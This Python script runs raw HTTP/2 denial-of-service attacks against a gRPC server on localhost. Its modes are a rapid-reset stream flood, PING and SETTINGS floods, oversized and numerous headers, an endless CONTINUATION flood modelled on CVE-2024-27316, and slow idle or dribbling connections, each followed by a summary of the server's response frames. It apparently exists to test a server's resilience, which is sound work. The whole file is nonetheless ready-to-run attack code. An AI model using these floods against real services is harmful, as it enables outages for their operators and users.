#!/usr/bin/env python3
"""Raw HTTP/2 attacks against a gRPC port (short bursts).
usage: h2raw.py PORT MODE [ARG]
 modes: rapidreset N | ping N | settings N | bigheader BYTES | manyheaders COUNT |
        continuation BYTES | idle SECONDS | dribble SECONDS | preface_idle SECONDS | http1_idle SECONDS | zerowindow
"""
import socket, struct, sys, time, hpack
PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
def frame(t, flags, sid, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([t, flags]) + struct.pack('>I', sid) + payload
SETTINGS = lambda p=b'': frame(4, 0, 0, p)
def headers_block(path='/grpc.health.v1.Health/Check', extra=()):
    e = hpack.Encoder()
    return e.encode([(':method','POST'),(':scheme','http'),(':path',path),(':authority','x'),('content-type','application/grpc'),('te','trailers')] + list(extra))
def conn(port):
    s = socket.create_connection(('127.0.0.1', port)); s.sendall(PREFACE + SETTINGS()); return s
def read_all(s, t=1.0):
    s.settimeout(t); out = b''
    try:
        while True:
            d = s.recv(1<<20)
            if not d: return out, 'EOF'
            out += d
    except socket.timeout: return out, 'open'
    except ConnectionResetError: return out, 'RST'
def frames(buf):
    res = []; i = 0
    while i + 9 <= len(buf):
        l = int.from_bytes(buf[i:i+3], 'big'); t = buf[i+3]; f = buf[i+4]; sid = int.from_bytes(buf[i+5:i+9], 'big') & 0x7fffffff
        res.append((t, f, sid, buf[i+9:i+9+l])); i += 9 + l
    return res
NAMES = {0:'DATA',1:'HEADERS',3:'RST',4:'SETTINGS',6:'PING',7:'GOAWAY',8:'WINDOW_UPDATE',9:'CONT'}
def summary(buf):
    c = {}; ga = None
    for t, f, sid, p in frames(buf):
        c[NAMES.get(t, t)] = c.get(NAMES.get(t, t), 0) + 1
        if t == 7: ga = (int.from_bytes(p[:4],'big'), int.from_bytes(p[4:8],'big'), p[8:][:100])
    return c, ga
port = int(sys.argv[1]); mode = sys.argv[2]; arg = int(sys.argv[3]) if len(sys.argv) > 3 else 0
grpc_body = frame(0, 1, 1, b'\x00\x00\x00\x00\x00')
t0 = time.time()
if mode == 'rapidreset':
    s = conn(port); blk = headers_block(); buf = b''; sent = 0
    try:
        for i in range(arg):
            sid = 1 + 2*i
            buf += frame(1, 4, sid, blk) + frame(3, 0, sid, struct.pack('>I', 8))
            if len(buf) > 60000: s.sendall(buf); buf = b''; sent = i
        s.sendall(buf); sent = arg
    except OSError as e: print('send error', e, 'after', sent)
    out, st = read_all(s); print('rapidreset', sent, 'streams in %.2fs' % (time.time()-t0), summary(out), st)
elif mode in ('ping', 'settings'):
    s = conn(port); f = frame(6, 0, 0, b'12345678') if mode == 'ping' else SETTINGS(struct.pack('>HI', 3, 100))
    sent = 0
    try:
        for i in range(arg // 1000):
            s.sendall(f * 1000); sent += 1000
    except OSError as e: print('send error', e)
    out, st = read_all(s); print(mode, sent, 'in %.2fs' % (time.time()-t0), summary(out), st)
elif mode == 'bigheader':
    s = conn(port); blk = headers_block(extra=[('x-big', 'a'*arg)])
    # split into CONTINUATION of 16 KiB
    chunks = [blk[i:i+16384] for i in range(0, len(blk), 16384)]
    data = frame(1, 4 if len(chunks)==1 else 0, 1, chunks[0])
    for j, c in enumerate(chunks[1:]): data += frame(9, 4 if j == len(chunks)-2 else 0, 1, c)
    try: s.sendall(data + grpc_body)
    except OSError as e: print('send error', e)
    out, st = read_all(s, 2); c, ga = summary(out)
    hdrs = [p for t, f, sid, p in frames(out) if t == 1]
    d = hpack.Decoder(); dec = []
    for h in hdrs:
        try: dec.append(d.decode(h))
        except Exception as e: dec.append(str(e))
    print('bigheader', arg, c, ga, st, dec)
elif mode == 'manyheaders':
    s = conn(port); blk = headers_block(extra=[('x-h%d' % i, 'v') for i in range(arg)])
    chunks = [blk[i:i+16384] for i in range(0, len(blk), 16384)]
    data = frame(1, 4 if len(chunks)==1 else 0, 1, chunks[0])
    for j, c in enumerate(chunks[1:]): data += frame(9, 4 if j == len(chunks)-2 else 0, 1, c)
    try: s.sendall(data + grpc_body)
    except OSError as e: print('send error', e)
    out, st = read_all(s, 2); c, ga = summary(out)
    d = hpack.Decoder(); dec = []
    for t, f, sid, p in frames(out):
        if t == 1:
            try: dec.append(d.decode(p))
            except Exception as e: dec.append(str(e))
    print('manyheaders', arg, 'block bytes', len(blk), c, ga, st, dec)
elif mode == 'continuation':
    # HEADERS without END_HEADERS, then endless CONTINUATION (CVE-2024-27316 style), ARG bytes total
    s = conn(port); blk = headers_block(); s.sendall(frame(1, 0, 1, blk)); sent = 0
    e = hpack.Encoder(); piece = frame(9, 0, 1, b'\x00' * 16384)  # zeros: indexed? literal junk
    try:
        while sent < arg: s.sendall(piece * 16); sent += 16 * 16384
    except OSError as ex: print('send error after', sent, ex)
    out, st = read_all(s); print('continuation', sent, 'bytes', summary(out), st)
elif mode in ('idle', 'preface_idle', 'dribble', 'http1_idle', 'nothing'):
    s = socket.create_connection(('127.0.0.1', port))
    if mode == 'preface_idle': s.sendall(PREFACE + SETTINGS())
    if mode == 'http1_idle': s.sendall(b'POST / HTTP/1.1\r\nHost: x\r\n')
    end = t0 + arg; s.settimeout(0.5); alive = True; got = b''
    msg = PREFACE + SETTINGS(); k = 0
    while time.time() < end:
        if mode == 'dribble' and k < len(msg):
            try: s.send(msg[k:k+1]); k += 1
            except OSError: alive = False; break
        try:
            d = s.recv(65535)
            if not d: alive = False; break
            got += d
            if mode == 'preface_idle':  # ack pings like a well-behaved idler
                for t, f, sid, p in frames(got):
                    if t == 6 and not f & 1: s.sendall(frame(6, 1, 0, p))
                got = b''
        except socket.timeout: pass
        except OSError: alive = False; break
        if mode == 'dribble': time.sleep(4.5)
    print(mode, 'closed by server after %.1fs' % (time.time()-t0) if not alive else 'still open after %ds' % arg, summary(got) if mode != 'preface_idle' else '')
